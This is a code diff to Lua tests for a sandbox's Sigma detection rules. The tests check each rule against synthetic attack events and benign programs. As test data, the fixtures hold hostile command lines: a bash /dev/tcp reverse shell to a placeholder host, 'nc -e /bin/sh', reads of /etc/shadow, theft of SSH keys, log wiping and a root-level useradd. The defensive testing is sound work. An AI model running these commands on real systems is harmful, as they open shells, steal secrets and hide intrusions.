@@ -1,12 +1,20 @@
 -- sbx.sigma: Sigma rules (tests/sigma/*.yml, written for these tests)
 -- compiled to verdict rules and matched against synthetic runs; the rules
 -- it does not support, each skipped with its reason; hostile rule files;
--- the regular expression matcher; and one real box (run.lua --explore)
--- whose facts a process_creation and a file_event rule fire on.
+-- the regular expression matcher; one real box (run.lua --explore) whose
+-- facts a process_creation and a file_event rule fire on; and one batch
+-- (the analysis box) over the technique samples the rules target and the
+-- benign corpus: each rule fires on its target, none on a benign program.
+-- scripts/test.sh runs this file as root and as uid 65534.
 local S = require "support"
 local sigma = require "sbx.sigma"
 local facts = require "sbx.facts"
 local verdict = require "sbx.verdict"
+local report = require "sbx.report"
+local cjson = require "cjson"
+
+-- the rule files that compile whole, and how many rules each holds
+local SUPPORTED = { process_creation = 5, file_event = 3, network_connection = 4, modifiers = 17, conditions = 10 }
 
 local function compile_file(name)
 	local path = "tests/sigma/" .. name .. ".yml"
@@ -21,8 +29,14 @@ local function by_name(rules)
 end
 
 local RULES = {}
-for _, f in ipairs { "process_creation", "file_event", "network_connection", "modifiers", "conditions" } do
+for f in pairs(SUPPORTED) do
 	for name, r in pairs(by_name((compile_file(f)))) do RULES[name] = r end
+end
+
+-- the technique sample a rule targets: its description ends with
+-- `target: tests/techniques/FILE`
+local function target_of(r)
+	return r.doc:match("target: (tests/techniques/[^%s]+)$")
 end
 
 local function exec(pid, ppid, path, argv, cwd)
@@ -51,6 +65,14 @@ local function cmd_run(cmdline, path)
 	return { events = { exec(2, 1, path or "/usr/bin/" .. argv[1], argv) } }
 end
 
+-- a run of one connection (with the name it was looked up by, if any)
+local function net_run(addr, protocol, hostname)
+	local family = addr:find("^%[") and "inet6" or "inet"
+	local run = { events = { connect(4, addr, protocol, family) } }
+	if hostname then run.dns_lookups = { { hostname = hostname, answer = addr:match("^%[?([^%]]+)%]?:%d+$") } } end
+	return run
+end
+
 -- the finding of the rule named sigma.<name> on run (nil: did not fire)
 local function fire(name, run)
 	local r = assert(RULES["sigma." .. name], name)
@@ -59,8 +81,7 @@ end
 
 describe("sbx.sigma.compile", function()
 	it("compiles every rule of the supported files", function()
-		for f, n in pairs { process_creation = 5, file_event = 3, network_connection = 4, modifiers = 14,
-			conditions = 10 } do
+		for f, n in pairs(SUPPORTED) do
 			local rules, skipped = compile_file(f)
 			assert.are.same({}, skipped, f)
 			assert.are.equal(n, #rules, f)
@@ -71,13 +92,22 @@ describe("sbx.sigma.compile", function()
 		local r = RULES["sigma.5b0e7d1c-3f6a-4c52-9d8e-2a7f41c9b0e1"]
 		assert.are.same({ "Crontab installed from a temporary file. A crontab is installed from a file "
 			.. "under /tmp, a persistence step of droppers (the crontab command, or a shell command line that runs "
-			.. "it).", { "T1053.003" }, "persistence", 7 },
+			.. "it). target: tests/techniques/T1053.003_cron.sh", { "T1053.003" }, "persistence", 7 },
 			{ r.doc, r.attack, r.tactic, r.severity })
-		r = RULES["sigma.Shell_started_by_a_Python_interpreter"]
-		assert.are.same({ { "T1059.004" }, "execution", 5 }, { r.attack, r.tactic, r.severity })
+		r = RULES["sigma.Program_run_from_an_anonymous_memory_file"]
+		assert.are.same({ { "T1620" }, "defense-evasion", 7 }, { r.attack, r.tactic, r.severity })
 		assert.are.same({ {}, 9, "command-and-control" }, { RULES["sigma.Mod_lt"].attack,
 			RULES["sigma.7e21c9a4-5d3b-4f08-b6a2-9c1e4d7f3a55"].severity,
 			RULES["sigma.7e21c9a4-5d3b-4f08-b6a2-9c1e4d7f3a55"].tactic })
+	end)
+
+	it("says one target of each rule, a technique sample", function()
+		for name, r in pairs(RULES) do
+			local _, n = r.doc:gsub("target: ", "")
+			assert.are.equal(1, n, name)
+			local t = target_of(r)
+			assert.truthy(t and S.read(t), name .. ": " .. tostring(t))
+		end
 	end)
 
 	it("maps each level to a severity and a verdict (medium when none)", function()
@@ -109,8 +139,8 @@ describe("sbx.sigma.compile", function()
 		assert.are.equal(6, #sigma.FIELDS.network_connection)
 		local mods = {}
 		for _, m in ipairs(sigma.MODIFIERS) do mods[m] = true end
-		for _, m in ipairs { "contains", "startswith", "endswith", "all", "re", "cidr", "windash", "base64",
-			"base64offset", "exists" } do
+		for _, m in ipairs { "contains", "startswith", "endswith", "all", "re", "re|i", "re|m", "re|s", "cidr",
+			"windash", "base64", "base64offset", "exists", "cased", "lt", "lte", "gt", "gte" } do
 			assert.truthy(mods[m], m)
 		end
 	end)
@@ -134,38 +164,54 @@ describe("sbx.sigma process_creation", function()
 		assert.is_nil(fire("5b0e7d1c-3f6a-4c52-9d8e-2a7f41c9b0e1", cmd_run("mycrontab /tmp/x")))
 	end)
 
-	it("matches a parent's image with a wildcard and a list of images", function()
-		local function run(parent, child)
-			return { events = { exec(2, 1, parent, { "python3", "x.py" }), exec(3, 2, child, { "sh", "-c", "id" }) } }
+	it("matches a parent's image and a command line with wildcards, and a list of images", function()
+		local MEMFD = "Program_run_from_an_anonymous_memory_file"
+		local function run(parent, image, name)
+			return { events = { exec(2, 1, parent, { parent }), exec(3, 2, image, { name }) } }
 		end
-		assert.truthy(fire("Shell_started_by_a_Python_interpreter", run("/usr/bin/python3.11", "/bin/sh")))
-		assert.truthy(fire("Shell_started_by_a_Python_interpreter", run("/usr/bin/python3", "/usr/bin/dash")))
-		assert.is_nil(fire("Shell_started_by_a_Python_interpreter", run("/usr/bin/perl", "/bin/sh")))
-		assert.is_nil(fire("Shell_started_by_a_Python_interpreter", run("/usr/bin/python3", "/usr/bin/zsh")))
+		assert.truthy(fire(MEMFD, run("/work/x.py", "/memfd: (deleted)", "[kworker/u8:1-events]")))
+		assert.truthy(fire(MEMFD, run("/tmp/a.py", "/proc/self/fd/3", "[kworker/u1:0-mm]")))
+		assert.is_nil(fire(MEMFD, run("/work/x.sh", "/memfd: (deleted)", "[kworker/u8:1-events]")))
+		assert.is_nil(fire(MEMFD, run("/work/x.py", "/usr/bin/id", "[kworker/u8:1-events]")))
+		-- ? is one character: neither none nor two
+		assert.is_nil(fire(MEMFD, run("/work/x.py", "/memfd: x", "[kworker/8:1-events]")))
+		assert.is_nil(fire(MEMFD, run("/work/x.py", "/memfd: x", "[kworker/u8:10-events]")))
 	end)
 
 	it("takes escaped wildcards as themselves", function()
-		assert.truthy(fire("Literal_star_in_an_echo", cmd_run("echo *?")))
-		assert.is_nil(fire("Literal_star_in_an_echo", cmd_run("echo ab")))
+		local HISTORY = "Browser_history_read_through_a_profile_wildcard"
+		assert.truthy(fire(HISTORY, cmd_run("sqlite3 file:/work/.mozilla/firefox/*/places.sqlite?mode=ro SELECT 1")))
+		assert.is_nil(fire(HISTORY, cmd_run("sqlite3 file:/work/.mozilla/firefox/ab/places.sqlite?mode=ro SELECT 1")))
+		assert.is_nil(fire(HISTORY, cmd_run("sqlite3 file:/work/.mozilla/firefox/*/places.sqliteXmode=ro SELECT 1")))
+		assert.is_nil(fire(HISTORY, cmd_run("sqlite3 file:/work/.mozilla/firefox/*/places.sqlite?mode=ro")))
 	end)
 
 	it("has the user, the directory and the pids (compared as numbers too)", function()
-		local run = { events = { exec(42, 1, "/usr/bin/id", { "id" }, "/work") } }
-		assert.truthy(fire("Program_run_from_the_home_directory", run))
-		assert.are.equal("info", fire("Program_run_from_the_home_directory", run).verdict)
-		assert.is_nil(fire("Program_run_from_the_home_directory", { events = { exec(42, 1, "/usr/bin/id", { "id" }, "/tmp") } }))
-		assert.is_nil(fire("Program_run_from_the_home_directory", { events = { exec(43, 1, "/usr/bin/id", { "id" }) } }))
+		local DECODE = "Hex_payload_decoded_in_tmp_by_the_first_process"
+		local function run(ppid, cwd)
+			return { events = { exec(2, 1, "/work/x.sh", { "/work/x.sh" }),
+				exec(7, ppid, "/usr/bin/xxd", { "xxd", "-r", "-p" }, cwd) } }
+		end
+		assert.truthy(fire(DECODE, run(2, "/tmp")))
+		assert.are.equal("info", fire(DECODE, run(2, "/tmp")).verdict)
+		assert.is_nil(fire(DECODE, run(2, "/work")))
+		assert.is_nil(fire(DECODE, run(3, "/tmp")))
 	end)
 
-	it("takes null as a field that is absent", function()
-		assert.truthy(fire("First_process_of_the_run", { events = { exec(2, 1, "/bin/sh", { "sh" }) } }))
-		assert.is_nil(fire("First_process_of_the_run", { events = {
-			exec(2, 1, "/usr/bin/env", { "env", "sh" }), exec(3, 2, "/bin/sh", { "sh" }) } }))
+	it("has the parent's command line", function()
+		local BASH = "Interactive_bash_under_a_dev_tcp_redirection"
+		local function run(parent_cmd)
+			return { events = { exec(3, 2, "/usr/bin/bash", { "bash", "-c", parent_cmd }),
+				exec(4, 3, "/usr/bin/bash", { "bash", "-i" }) } }
+		end
+		assert.truthy(fire(BASH, run("bash -i >& /dev/tcp/h.example/4444 0>&1")))
+		assert.is_nil(fire(BASH, run("bash -i")))
 	end)
 end)
 
 describe("sbx.sigma file_event", function()
 	local CRON = "0c6d2a4e-8b1f-4e73-a5d9-6f3e2b7c1d08"
+	local WEBSHELL = "Hidden_PHP_file_written_under_a_web_root"
 
 	it("fires on a write the kernel refused, quotes it and counts the others", function()
 		local run = { events = { exec(3, 1, "/usr/bin/crontab", { "crontab", "-" }),
@@ -182,11 +228,14 @@ describe("sbx.sigma file_event", function()
 	end)
 
 	it("counts a file the box left, and a path written twice once", function()
-		local run = { events = { open(3, "/tmp/y", 577), open(3, "/tmp/y", 577) },
-			files_dropped = { { path = "/tmp/y", mode = "644", size = 3 }, { path = "/tmp/z", mode = "644" } } }
-		local f = fire("File_written_under_tmp", run)
-		assert.are.equal("sigma File written under tmp: TargetFilename=/tmp/y (2 in all)", f.reason)
-		assert.is_nil(fire("File_written_under_tmp", { files_dropped = { { path = "/tmp/a/b", mode = "644" } } }))
+		local run = { events = { open(3, "/var/www/html/.x.php", 577), open(3, "/var/www/html/.x.php", 577) },
+			files_dropped = { { path = "/var/www/html/.x.php", mode = "644", size = 3 },
+				{ path = "/srv/http/.y.php", mode = "644" } } }
+		local f = fire(WEBSHELL, run)
+		assert.are.equal("sigma Hidden PHP file written under a web root: TargetFilename=/var/www/html/.x.php "
+			.. "(2 in all)", f.reason)
+		assert.is_nil(fire(WEBSHELL, { files_dropped = { { path = "/var/www/html/a/.b.php", mode = "644" } } }))
+		assert.is_nil(fire(WEBSHELL, { events = { open(3, "/var/www/html/index.php", 577) } }))
 	end)
 
 	it("matches the image that wrote", function()
@@ -219,38 +268,52 @@ describe("sbx.sigma network_connection", function()
 	end)
 
 	it("reads the sink's traffic when no connection names it", function()
-		local run = { dns_lookups = { { hostname = "x.paste.example", answer = "10.9.9.9" } },
+		local run = { dns_lookups = { { hostname = "transfer.sh", answer = "10.9.9.9" } },
 			ip_traffic = { { protocol = "tcp", address = "10.9.9.9", port = 443, bytes = 10 } } }
-		assert.are.equal("sigma Lookup of a paste site: DestinationIp:Port=10.9.9.9:443 Protocol=tcp "
-			.. "DestinationHostname=x.paste.example", fire("Lookup_of_a_paste_site", run).reason)
-		run.dns_lookups[1].hostname = "paste.example.org"
-		assert.is_nil(fire("Lookup_of_a_paste_site", run))
+		assert.are.equal("sigma Upload to a file sharing site: DestinationIp:Port=10.9.9.9:443 Protocol=tcp "
+			.. "DestinationHostname=transfer.sh", fire("Upload_to_a_file_sharing_site", run).reason)
+		run.dns_lookups[1].hostname = "transfer.sh.example.org"
+		assert.is_nil(fire("Upload_to_a_file_sharing_site", run))
 	end)
 
 	it("compares ports as numbers", function()
-		local function port(p) return { events = { connect(4, "10.1.1.1:" .. p) } } end
-		assert.truthy(fire("High_destination_port", port(31337)))
-		assert.is_nil(fire("High_destination_port", port(65000)))
-		assert.is_nil(fire("High_destination_port", port(80)))
-		assert.truthy(fire("Port_given_with_a_leading_zero", port(80)))
-		assert.is_nil(fire("Port_given_with_a_leading_zero", port(8080)))
+		local IRC, SMB = "UDP_to_an_IRC_port", "SMB_port_probed_by_address"
+		assert.truthy(fire(IRC, net_run("10.1.1.1:6667", "udp")))
+		assert.truthy(fire(IRC, net_run("10.1.1.1:6660", "udp")))
+		assert.is_nil(fire(IRC, net_run("10.1.1.1:6670", "udp")))
+		assert.is_nil(fire(IRC, net_run("10.1.1.1:6659", "udp")))
+		assert.is_nil(fire(IRC, net_run("10.1.1.1:6667", "tcp")))
+		assert.truthy(fire(SMB, net_run("10.1.1.1:445")))
+		assert.is_nil(fire(SMB, net_run("10.1.1.1:4450")))
+	end)
+
+	it("takes null as a field that is absent", function()
+		assert.truthy(fire("SMB_port_probed_by_address", net_run("10.1.1.1:445")))
+		assert.is_nil(fire("SMB_port_probed_by_address", net_run("10.1.1.1:445", "tcp", "files.example")))
 	end)
 end)
 
 describe("sbx.sigma modifiers", function()
-	-- rule, command lines it fires on, command lines it does not
+	-- rule, command lines it fires on, command lines it does not (image:
+	-- /usr/bin/ and the first word)
 	local CASES = {
-		{ "Mod_contains", { "curl http://x", "/usr/bin/CURL -s x" }, { "wget http://x", "curl" } },
-		{ "Mod_all", { "nc -e /bin/sh 10.0.0.2 4444" }, { "nc -l 4444 /bin/sh", "nc -e /bin/bash" } },
-		{ "Mod_re", { "curl -s http://x/i.sh | sh", "wget -O- x |bash" }, { "curl x | tee sh.log", "CURL x | SH" } },
-		{ "Mod_re_i", { "echo aGk= | BASE64 -D", "base64 --decode f" }, { "base64 f" } },
-		{ "Mod_re_all", { "chmod +x /tmp/a" }, { "chmod 644 /tmp/a", "sh chmod +x" } },
-		{ "Mod_windash", { "find / -exec rm {} ;", "find / /exec rm", "find / \u{2013}exec rm", "find / \u{2014}exec rm" },
-			{ "find / exec rm", "find /-exec rm", "find / +exec rm" } },
-		{ "Mod_base64", { "echo d2hvYW1pOyBpZA== | base64 -d | sh", "echo d2hvYW1p" }, { "echo ZDJodmIy", "echo D2HVYW1P" } },
-		{ "Mod_base64offset", { "echo ZXhlYyAvYmluL3NoIC1p", "echo YWV4ZWMgL2Jpbi9zaCAtaQ==", "echo YWJleGVjIC9iaW4vc2ggLWk=" },
-			{ "echo L2Jpbi9iYXNo", "echo /bin/sh" } },
-		{ "Mod_cased", { "export K=AKIAXYZ" }, { "export K=akiaxyz" } },
+		{ "Mod_contains", { "nft flush ruleset", "/usr/sbin/NFT FLUSH RULESET" }, { "nft list ruleset", "flush" } },
+		{ "Mod_all", { "nc -e /bin/sh 10.0.0.2 4444", "busybox nc x -e /bin/sh" },
+			{ "nc -l 4444 /bin/sh", "nc -e /bin/bash x", "ncat -e /bin/sh x" } },
+		{ "Mod_re", { "rm -f /var/log/wtmp /var/log/btmp", "rm /var/log/lastlog" },
+			{ "rm -f /var/log/syslog", "echo rm -f /var/log/wtmp", "rm -f /var/log/wtmpx" } },
+		{ "Mod_re_i", { "openssl enc -d -aes-256-cbc -in x", "OpenSSL ENC -D -AES-128-CBC -in x" },
+			{ "openssl enc -aes-256-cbc -out x", "openssl enc -d -aes-256-gcm -in x" } },
+		{ "Mod_re_all", { "chmod 4755 /tmp/x", "chmod u+s /tmp/x", "chmod g+s,o-w d" },
+			{ "chmod 755 /tmp/x", "chmod 0755 x", "sh chmod 4755 x", "chmod +x f" } },
+		{ "Mod_windash", { "useradd -M -o -u 0 -g 0 x", "useradd /o /u 0 x", "useradd \u{2013}o \u{2014}u 0 x" },
+			{ "useradd -o -u 1000 x", "useradd +o +u 0 x", "useradd -o-u 0 x" } },
+		{ "Mod_base64", { "grep ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHJ0 x", "echo C3NzaC1lZDI1NTE5" },
+			{ "echo c3NzaC1lZDI1NTE5", "echo ssh-ed25519" } },
+		{ "Mod_base64offset", { "echo YmFja2Rvb3I=", "echo eCBiYWNrZG9vcg==", "echo eHliYWNrZG9vcg==" },
+			{ "echo backdoor", "echo YMFJA2RVB3I=" } },
+		{ "Mod_cased", { "grep ENCRYPT_METHOD /etc/login.defs" },
+			{ "grep encrypt_method /etc/login.defs", "grep Encrypt_Method x" } },
 	}
 	for _, c in ipairs(CASES) do
 		it(c[1]:gsub("_", " ", 1), function()
@@ -259,61 +322,99 @@ describe("sbx.sigma modifiers", function()
 		end)
 	end
 
+	it("Mod re m, re s (a command line of several lines)", function()
+		local function py(code) return { events = { exec(2, 1, "/usr/bin/python3", { "python3", "-c", code }) } } end
+		local raw = "\nimport socket\ns = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\ns.recv(9)\n"
+		assert.truthy(fire("Mod_re_m", py(raw)))
+		assert.truthy(fire("Mod_re_s", py(raw)))
+		-- without m, ^ is the start of the text; without s, . is no newline
+		assert.truthy(sigma.regex("^s = socket", "m")(raw))
+		assert.is_false(sigma.regex("^s = socket")(raw))
+		assert.is_false(sigma.regex("AF_PACKET.*recv")(raw))
+		assert.is_nil(fire("Mod_re_m", py("import socket; s = socket.socket(socket.AF_PACKET, 3)")))
+		assert.is_nil(fire("Mod_re_s", py("\ns = socket.socket(socket.AF_INET)\ns.recv(9)\n")))
+	end)
+
 	it("Mod startswith, endswith (images)", function()
-		assert.truthy(fire("Mod_startswith", cmd_run("x", "/tmp/.x/payload")))
-		assert.is_nil(fire("Mod_startswith", cmd_run("x", "/usr/bin/tmp")))
+		assert.truthy(fire("Mod_startswith", cmd_run("x", "/dev/shm/.k/kworker")))
+		assert.is_nil(fire("Mod_startswith", cmd_run("x", "/dev/shmx/y")))
+		assert.is_nil(fire("Mod_startswith", cmd_run("x", "/tmp/dev/shm/x")))
+		assert.truthy(fire("Mod_endswith", cmd_run("x", "/usr/bin/nc")))
 		assert.truthy(fire("Mod_endswith", cmd_run("x", "/usr/bin/ncat")))
-		assert.is_nil(fire("Mod_endswith", cmd_run("x", "/usr/bin/ncx")))
+		assert.is_nil(fire("Mod_endswith", cmd_run("x", "/usr/bin/rnc")))
 	end)
 
 	it("Mod exists", function()
-		assert.truthy(fire("Mod_exists", { events = { exec(2, 1, "/bin/sh", { "sh" }) } }))
-		assert.is_nil(fire("Mod_exists", { events = { exec(2, 1, "/usr/bin/env", { "env" }), exec(3, 2, "/bin/sh", { "sh" }) } }))
+		assert.truthy(fire("Mod_exists", net_run("10.0.0.2:3389")))
+		assert.is_nil(fire("Mod_exists", net_run("10.0.0.2:3389", "tcp", "rdp.example")))
+		assert.is_nil(fire("Mod_exists", net_run("10.0.0.2:3390")))
 	end)
 
 	it("Mod cidr (IPv4, IPv6, IPv4-mapped)", function()
-		for _, a in ipairs { "172.20.1.1:80", "[2001:db8::1]:80", "[::ffff:172.16.0.1]:80" } do
-			assert.truthy(fire("Mod_cidr", { events = { connect(4, a, "tcp", a:find("%[") and "inet6" or "inet") } }), a)
+		for _, a in ipairs { "10.0.0.3:6379", "[2001:db8::1]:6379", "[::ffff:10.0.0.7]:6379" } do
+			assert.truthy(fire("Mod_cidr", net_run(a)), a)
 		end
-		for _, a in ipairs { "172.32.0.1:80", "[2001:db9::1]:80", "[::1]:80" } do
-			assert.is_nil(fire("Mod_cidr", { events = { connect(4, a, "tcp", a:find("%[") and "inet6" or "inet") } }), a)
+		for _, a in ipairs { "10.0.0.8:6379", "[2001:db9::1]:6379", "[::1]:6379", "10.0.0.3:6380" } do
+			assert.is_nil(fire("Mod_cidr", net_run(a)), a)
 		end
 	end)
 
-	it("Mod lt", function()
-		assert.truthy(fire("Mod_lt", { events = { connect(4, "10.1.1.1:53", "udp") } }))
-		assert.is_nil(fire("Mod_lt", { events = { connect(4, "10.1.1.1:5353", "udp") } }))
-		assert.is_nil(fire("Mod_lt", { events = { connect(4, "10.1.1.1:53", "tcp") } }))
+	it("Mod lt, lte", function()
+		for port, want in pairs { [134] = false, [135] = true, [139] = true, [140] = false } do
+			assert.are.equal(want, fire("Mod_lt", net_run("10.1.1.1:" .. port)) ~= nil, port)
+		end
+		assert.is_nil(fire("Mod_lt", net_run("10.1.1.1:135", "udp")))
+		for port, want in pairs { [5899] = false, [5900] = true, [5903] = true, [5904] = false } do
+			assert.are.equal(want, fire("Mod_lte", net_run("10.1.1.1:" .. port)) ~= nil, port)
+		end
 	end)
 end)
 
 describe("sbx.sigma conditions", function()
-	-- rule, then command lines and whether it fires (image /usr/bin/x,
-	-- or the third field)
+	-- rule, then { image, command line, whether it fires }
 	local CASES = {
-		{ "Cond_and_not", { "aaa", true }, { "aaa bbb", false }, { "bbb", false } },
-		{ "Cond_or", { "aaa", true }, { "bbb", true }, { "ccc", false } },
-		{ "Cond_parentheses", { "aaa", true }, { "bbb", true }, { "aaa ccc", false }, { "ccc", false } },
-		{ "Cond_precedence", { "bbb", true }, { "aaa bbb", false }, { "ccc", true }, { "aaa ccc", true }, { "aaa", false } },
-		{ "Cond_one_of_pattern", { "aaa", true }, { "bbb", true }, { "aaa ccc", false }, { "ccc", false } },
-		{ "Cond_all_of_pattern", { "aaa bbb", true }, { "aaa", false }, { "bbb", false } },
-		{ "Cond_one_of_them", { "aaa", true }, { "bbb", true }, { "ccc", false } },
-		{ "Cond_all_of_them", { "aaa bbb", true }, { "aaa", false }, { "ccc", false } },
-		{ "Cond_list", { "aaa", true }, { "ccc", true }, { "bbb", false } },
-		{ "Cond_list_of_maps", { "aaa", true }, { "x", true, "/opt/ccc" }, { "bbb", false } },
+		{ "Cond_and_not", { "/usr/bin/systemctl", "systemctl stop mysql", true },
+			{ "/usr/bin/systemctl", "systemctl stop auditd", false },
+			{ "/usr/bin/systemctl", "systemctl start mysql", false } },
+		{ "Cond_or", { "/usr/bin/touch", "touch -r /bin/ls /work/x", true },
+			{ "/usr/bin/touch", "touch -d 2021-03-14 /tmp/.x", true }, { "/usr/bin/touch", "touch /tmp/.x", false },
+			{ "/usr/bin/touch", "touch -d 2021-03-14 /tmp/x", false }, { "/usr/bin/cp", "cp -r /bin/x /y", false } },
+		{ "Cond_parentheses", { "/usr/bin/cat", "cat /proc/1/root/etc/shadow", true },
+			{ "/usr/bin/nsenter", "nsenter --target 1 --mount", true }, { "/usr/bin/ls", "ls /proc/1/root/", false },
+			{ "/usr/bin/cat", "cat /etc/shadow", false }, { "/usr/bin/x", "x --target 1 y", false } },
+		{ "Cond_precedence", { "/usr/bin/chmod", "chmod 777 /tmp/x", true },
+			{ "/usr/bin/chmod", "chmod 777 /work/x", false }, { "/usr/bin/chattr", "chattr +i /work/x", true },
+			{ "/usr/bin/chmod", "chmod 644 /tmp/x", false }, { "/usr/bin/chattr", "chattr -i /tmp/x", false } },
+		{ "Cond_one_of_pattern", { "/usr/bin/cp", "cp /work/.ssh/id_rsa /tmp/.k/", true },
+			{ "/usr/bin/grep", "grep -l PRIVATE KEY /tmp/x", true },
+			{ "/usr/bin/cp", "cp /work/.ssh/id_rsa.pub /tmp/", false }, { "/usr/bin/cat", "cat /work/.ssh/id_rsa", false } },
+		{ "Cond_all_of_pattern", { "/usr/bin/env", "env LD_PRELOAD=/tmp/x.so ls", true },
+			{ "/usr/bin/env", "env FOO=1 ls", false }, { "/bin/sh", "sh -c LD_PRELOAD=/tmp/x.so", false } },
+		{ "Cond_one_of_them", { "/usr/bin/import", "import -window root /tmp/s.png", true },
+			{ "/usr/bin/scrot", "scrot /tmp/x.png", true }, { "/usr/bin/import", "import photo.jpg", false },
+			{ "/usr/bin/convert", "convert -window root x", false } },
+		{ "Cond_all_of_them", { "/usr/bin/truncate", "truncate -s 0 /root/.bash_history", true },
+			{ "/usr/bin/truncate", "truncate -s 0 /tmp/log", false }, { "/usr/bin/rm", "rm -f /work/.zsh_history", false } },
+		{ "Cond_list", { "/usr/bin/sed", "sed -i /a/d /etc/hosts", true }, { "/usr/bin/tee", "tee -a /etc/hosts", true },
+			{ "/usr/bin/sed", "sed /a/d /etc/hosts", false }, { "/usr/bin/cat", "cat /etc/hosts", false } },
+		{ "Cond_list_of_maps", { "/usr/bin/cat", "cat /.dockerenv", true },
+			{ "/usr/bin/systemd-detect-virt", "systemd-detect-virt", true }, { "/usr/bin/cat", "cat /etc/hostname", false } },
 	}
 	for _, c in ipairs(CASES) do
 		it(c[1]:gsub("_", " "), function()
 			for i = 2, #c do
-				local cmd, want, image = c[i][1], c[i][2], c[i][3]
-				assert.are.equal(want, fire(c[1], cmd_run("x " .. cmd, image)) ~= nil, cmd)
+				local image, cmd, want = c[i][1], c[i][2], c[i][3]
+				assert.are.equal(want, fire(c[1], cmd_run(cmd, image)) ~= nil, cmd)
 			end
 		end)
 	end
 
 	it("evaluates a condition on each event alone", function()
-		local run = { events = { exec(2, 1, "/usr/bin/x", { "x", "aaa" }), exec(3, 1, "/usr/bin/x", { "x", "bbb" }) } }
+		local run = { events = { exec(2, 1, "/usr/bin/systemctl", { "systemctl", "stop", "mysql" }),
+			exec(3, 1, "/usr/bin/systemctl", { "systemctl", "stop", "auditd" }) } }
 		assert.truthy(fire("Cond_and_not", run))
+		run = { events = { exec(2, 1, "/usr/bin/env", { "env", "FOO=1", "ls" }),
+			exec(3, 1, "/bin/sh", { "sh", "-c", "LD_PRELOAD=/tmp/x.so ls" }) } }
 		assert.is_nil(fire("Cond_all_of_pattern", run))
 	end)
 end)
@@ -352,12 +453,13 @@ describe("sbx.sigma unsupported rules", function()
 		["Bad correlation"] = "correlation rules are not supported",
 		["Bad status"] = "the rule's status is 'unsupported'",
 		["Bad value map"] = "the value of field Image must be a scalar or a list of scalars",
-		["Duplicate id two"] = "a second rule named sigma.9a8b7c6d-0000-4000-8000-000000000001 in the file",
+		-- lua-yaml ends a string at a NUL: a contains of "" would match all
+		["Bad NUL value"] = "an empty value with modifiers would match every event (field CommandLine)",
 	}
 
 	it("skips each with its reason, its source, title and id", function()
 		local rules, skipped = compile_file("unsupported")
-		assert.are.same({ "sigma.9a8b7c6d-0000-4000-8000-000000000001" }, { rules[1].name, rules[2] })
+		assert.are.same({}, rules)
 		local got = {}
 		for _, s in ipairs(skipped) do
 			assert.are.equal("tests/sigma/unsupported.yml", s.source)
@@ -366,6 +468,19 @@ describe("sbx.sigma unsupported rules", function()
 		assert.are.same(WHY, got)
 		assert.are.equal(31, #skipped)
 		assert.are.equal("2b9f3c71-6e0a-4d8b-9a5c-1f7e3d2c8b40", skipped[28].id)
+	end)
+
+	it("skips a second rule of the same name in a file", function()
+		local function rule(title, image)
+			return ("title: %s\nid: 9a8b7c6d-0000-4000-8000-000000000001\n"
+				.. "logsource: {product: linux, category: process_creation}\n"
+				.. "detection: {selection: {Image|endswith: %s}, condition: selection}\n"):format(title, image)
+		end
+		local rules, skipped = sigma.compile(rule("Duplicate id one", "/sh") .. "---\n"
+			.. rule("Duplicate id two", "/bash"), "dup.yml")
+		assert.are.same({ "sigma.9a8b7c6d-0000-4000-8000-000000000001" }, { rules[1].name, rules[2] })
+		assert.are.same({ { source = "dup.yml", title = "Duplicate id two", id = "9a8b7c6d-0000-4000-8000-000000000001",
+			why = "a second rule named sigma.9a8b7c6d-0000-4000-8000-000000000001 in the file" } }, skipped)
 	end)
 
 	it("skips a malformed file as one entry", function()
@@ -542,11 +657,12 @@ describe("sbx.sigma hostile input", function()
 	end)
 end)
 
+
 describe("sbx.sigma on a real box", function()
 	S.leak_check(before_each, after_each, assert)
 
 	it("fires a process_creation and a file_event rule on run.lua --explore's facts", function()
-		local _, err, code, res = S.json_run("--explore", "sh", "-c", "crontab /tmp/x; echo hi > /tmp/y")
+		local _, err, code, res = S.json_run("--explore", "sh", "-c", "crontab /tmp/x; echo x >> $HOME/.bashrc")
 		assert.truthy(res, err)
 		assert.are.equal(0, code, err)
 		local F = facts.of(res)
@@ -555,10 +671,94 @@ describe("sbx.sigma on a real box", function()
 		-- crontab is not installed: the shell's command line is the event
 		local f = rules["sigma.5b0e7d1c-3f6a-4c52-9d8e-2a7f41c9b0e1"].fn(res, F)
 		assert.truthy(f, err)
-		assert.truthy(f.reason:find('CommandLine="sh -c crontab /tmp/x; echo hi > /tmp/y"', 1, true), f.reason)
-		f = rules["sigma.File_written_under_tmp"].fn(res, F)
+		assert.truthy(f.reason:find('CommandLine="sh -c crontab /tmp/x; echo x >> $HOME/.bashrc"', 1, true), f.reason)
+		f = rules["sigma.Shell_profile_changed_by_a_shell"].fn(res, F)
 		assert.truthy(f, err)
 		assert.are.equal(1, f.count)
-		assert.truthy(f.reason:find("^sigma File written under tmp: TargetFilename=/tmp/y Image=/%S*dash$"), f.reason)
+		assert.truthy(f.reason:find("^sigma Shell profile changed by a shell: TargetFilename=/work/%.bashrc Image=/%S*dash$"),
+			f.reason)
+	end)
+end)
+
+describe("sbx.sigma rules on their targets and the benign corpus [" .. S.priv .. "]", function()
+	S.leak_check(before_each, after_each, assert)
+
+	-- the rules and their targets, read when the file is loaded so that
+	-- each rule is a test of its own
+	local names, targets, seen = {}, {}, {}
+	for name, r in pairs(RULES) do
+		names[#names + 1] = name
+		local t = target_of(r)
+		if t and not seen[t] then targets[#targets + 1], seen[t] = t, true end
+	end
+	table.sort(names)
+	table.sort(targets)
+
+	-- one batch (the analysis box) over the targets and tests/benign
+	local recs, benign, err = {}, 0, ""
+	setup(function()
+		local errfile, quoted = os.tmpname(), {}
+		for i, t in ipairs(targets) do quoted[i] = S.q(t) end
+		local out = S.sh(S.bin .. " batch.lua -j 2 --progress never --no-default-rules --rules tests/sigma "
+			.. table.concat(quoted, " ") .. " tests/benign 2>" .. errfile .. " </dev/null")
+		err = S.read(errfile) or ""
+		os.remove(errfile)
+		for l in out:gmatch("([^\n]*)\n") do
+			local r = cjson.decode(l)
+			recs[r.program] = r
+			if r.program:find("^tests/benign/") then benign = benign + 1 end
+		end
+	end)
+
+	local function rules_of(r)
+		local t = {}
+		for _, f in ipairs(r.reasons or {}) do t[#t + 1] = f.rule end
+		return t
+	end
+
+	for _, name in ipairs(names) do
+		local target = target_of(RULES[name])
+		it(name .. " fires on " .. tostring(target), function()
+			local r = recs[target]
+			assert.is_table(r, "no record for " .. tostring(target) .. ": " .. err:sub(-400))
+			local fired = {}
